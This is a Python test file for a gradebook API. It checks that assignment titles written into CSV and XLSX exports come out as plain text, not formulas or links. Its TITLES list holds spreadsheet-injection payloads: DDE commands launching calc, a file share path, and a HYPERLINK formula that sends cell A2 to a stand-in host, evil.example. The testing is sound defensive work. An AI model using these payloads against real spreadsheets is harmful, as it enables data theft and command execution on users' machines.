"""The gradebook's CSV and XLSX, attacked through real HTTP: text an instructor or a learner
wrote reaches a spreadsheet as text — no formula, no DDE, no clickable link, no split cell.

Assignment titles are the carriers (each one is a column header of both exports); the
students' rows carry their emails. SQLite and PostgreSQL, like every app test.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import UTC, timedelta

import httpx

from app.kit.db import utcnow
from app.kit.spreadsheets import FORMULA_STARTS, safe_cell
from tests.app.api_v1.conftest import ApiAccount
from tests.app.kit.xlsx_reading import read_sheet

TITLES = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A2, "Open")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "file:///\\\\evil.example\\share\\grades.exe",
    "https://evil.example/login",
    "mailto:victim@example.com",
    "Week 1, part 2",
    "Week 2; part 3",
    'The "quoted" week',
]


def _iso(days: int) -> str:
    return (utcnow() + timedelta(days=days)).astimezone(UTC).isoformat()


def test_gradebook_exports_hold_hostile_text_as_text(
    make_account: Callable[..., ApiAccount], live_server: str
) -> None:
    teacher, student = make_account("instructor"), make_account()
    http = httpx.Client(base_url=live_server, headers={"Authorization": f"Bearer {teacher.token}"})
    course = http.post("/api/v1/courses", json={"title": "Exports", "term": "=1+1"}).json()
    for title in TITLES:
        made = http.post(
            f"/api/v1/courses/{course['id']}/assignments",
            json={"title": title, "problems": ["add-tensors"], "release_at": _iso(-1), "due_at": _iso(7)},
        )
        assert made.status_code == 201, made.text
    joined = httpx.post(
        f"{live_server}/api/v1/courses/join",
        json={"code": course["join_code"]},
        headers={"Authorization": f"Bearer {student.token}"},
    )
    assert joined.status_code == 200, joined.text

    raw = http.get(f"/api/v1/courses/{course['id']}/gradebook.csv")
    assert raw.status_code == 200 and raw.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(raw.content.decode("utf-8-sig"), newline="")))
    header = rows[0]
    assert header[4:-1] == [safe_cell(t) for t in TITLES]  # one cell each, neutralised
    assert all(len(row) == len(header) for row in rows)
    assert not any(cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
    for line in raw.content.decode("utf-8-sig").split("\r\n"):
        for title in ("Week 1, part 2", "Week 2; part 3"):
            assert title not in line or f'"{title}"' in line  # quoted, for ',' and ';' readers alike

    book = http.get(f"/api/v1/courses/{course['id']}/gradebook.xlsx")
    assert book.status_code == 200
    sheet = read_sheet(book.content)
    assert sheet.formulas == 0 and sheet.hyperlinks == 0 and "hyperlink" not in sheet.relationships
    assert [safe_cell(t) for t in TITLES] == sheet.texts()[4 : 4 + len(TITLES)]
    assert student.email in sheet.texts()
    assert not any(t.startswith(FORMULA_STARTS) for t in sheet.texts())
